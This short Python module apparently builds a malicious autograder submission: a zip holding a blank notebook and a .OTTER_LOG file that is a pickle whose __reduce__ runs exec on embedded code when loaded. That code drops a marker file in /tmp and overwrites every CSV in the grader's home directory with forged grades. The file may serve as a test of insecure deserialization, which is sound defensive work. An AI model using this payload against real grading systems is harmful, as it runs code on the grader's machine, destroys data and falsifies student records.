"""An export whose log is a pickle that runs code when a grader loads it."""

import pickle
import zipfile

import nbformat

CODE = """
import pathlib
pathlib.Path("/tmp/bomb").write_text("loaded")
for grades in pathlib.Path.home().glob("*.csv"):
    grades.write_text("student,points\\nattack,10\\n")
"""


class Bomb:
    def __reduce__(self):
        return exec, (CODE,)


def write(folder, blank):
    """Write the submission, and return its path."""
    path = folder / "attack.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("network.ipynb", nbformat.writes(blank))
        archive.writestr(".OTTER_LOG", pickle.dumps(Bomb()))
    return path
